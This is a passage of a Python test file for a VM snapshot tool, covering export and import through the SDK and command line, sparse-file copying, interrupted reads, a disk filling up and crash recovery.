    data, whole, last = exported(home, made), Steps(), Steps()
    transfer.read_archive(other, io.BytesIO(data), step=whole)
    catalog.verify(made, last)
    catalog.remove(other, made.id)
    assert 0 < last.count < whole.count
    for count in (1, whole.count // 2, *range(whole.count - last.count, whole.count + 1)):
        with pytest.raises(DoneError):
            transfer.read_archive(other, io.BytesIO(data), step=Steps(count))
        assert os.listdir(other.snapshots) == []


def test_the_sdk_and_the_command_line_move_a_snapshot(home, other, tmp_path, config, monkeypatch, capsys):
    made = keep(home)
    one, two = (replace(config, data_dir=paths.data) for paths in (home, other))
    done = atoll.export_snapshot("mine", tmp_path / "first", config=one)
    found = atoll.import_snapshot(tmp_path / "first", name="renamed", config=two)
    assert (done.id, found.manifest.name) == (made.id, "renamed")
    monkeypatch.setenv("ATOLL_DATA_DIR", str(home.data))
    assert main(["snapshot", "export", "mine", str(tmp_path / "second"), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["bytes"] == done.bytes
    monkeypatch.setenv("ATOLL_DATA_DIR", str(other.data))
    assert main(["snapshot", "import", str(tmp_path / "second"), "--json"]) == 0
    told = json.loads(capsys.readouterr().out)
    assert (told["id"], told["imported"]) == (made.id, True)
    assert main(["snapshot", "ls"]) == 0
    assert "dev (not here)" in capsys.readouterr().out
    assert main(["snapshot", "import", str(tmp_path / "nonsuch")]) == 2
    assert "usage.archive" in capsys.readouterr().err
    assert main(["snapshot", "export", "mine", "-", "--json"]) == 2


@pytest.mark.parametrize("size", [0, 1, MIB - 1, MIB, 3 * MIB + 5])
def test_a_sparse_file_comes_back_with_its_holes(tmp_path, size):
    path, again = tmp_path / "one", tmp_path / "two"
    with path.open("wb") as file:
        file.truncate(size)
        for at in range(0, size, MIB + 70_000):
            file.seek(at)
            file.write(b"x" * min(5000, size - at))
    from atoll.snapshot import digests

    with path.open("rb") as source, again.open("w+b") as target:
        whole = digests.begun(size)
        writing = blocks.Writing(target.fileno(), size)
        for part in blocks.packed(source.fileno(), whole):
            writing.add(part, size - writing.content)
        assert writing.content <= blocks.room(source.fileno())
    assert again.read_bytes() == path.read_bytes()
    assert again.stat().st_blocks <= path.stat().st_blocks
    assert whole.hexdigest() == digests.digest(path)


def test_a_machine_of_the_same_name_is_told_from_the_one_that_a_snapshot_is_of(home):
    made = keep(home)
    registry.add(home, "dev", spec_of(id="f" * 32, accel="tcg"), write_root)
    with pytest.raises(StateError, match="of another dev, not of dev"):
        restoring.require_own(made, registry.find(home, "dev"))


def test_kvm_and_tcg_are_what_a_vm_may_have(home, other):
    for accelerator in Accelerator:
        plan = plan_of(machine=machine_of(Kind.MACHINE, accelerator=accelerator))
        taken(other, exported(home, keep(home, plan=plan, name=str(accelerator))))


def test_a_disk_that_fills_up_meanwhile_leaves_nothing(home, other, monkeypatch):
    data = exported(home, keep(home))
    real, left = os.pwrite, [2]

    def pwrite(*arguments):
        left[0] -= 1
        if left[0] < 0:
            raise OSError(28, "No space left on device")
        return real(*arguments)

    monkeypatch.setattr(blocks.os, "pwrite", pwrite)
    assert_refused(other, data, code="store.full")


def test_a_kill_leaves_nothing_that_is_seen_and_what_comes_next_sweeps_it(home, tmp_path):
    made = keep(home, ram=b"")
    data = exported(home, made)
    step, killed = 1, True
    while killed:
        paths = Paths(data=tmp_path / str(step), cache=tmp_path)
        killed = killed_at(step, lambda paths=paths: taken(paths, data))
        for one in catalog.listed(paths):
            catalog.verify(one)
        assert killed or [one.id for one in catalog.listed(paths)] == [made.id]
        for left in paths.snapshots.glob(".partial-*") if paths.snapshots.exists() else ():
            os.utime(left, (1, 1))
        if not catalog.listed(paths):
            taken(paths, data)
        assert os.listdir(paths.snapshots) == [made.id]
        step += 5
    assert step > 20
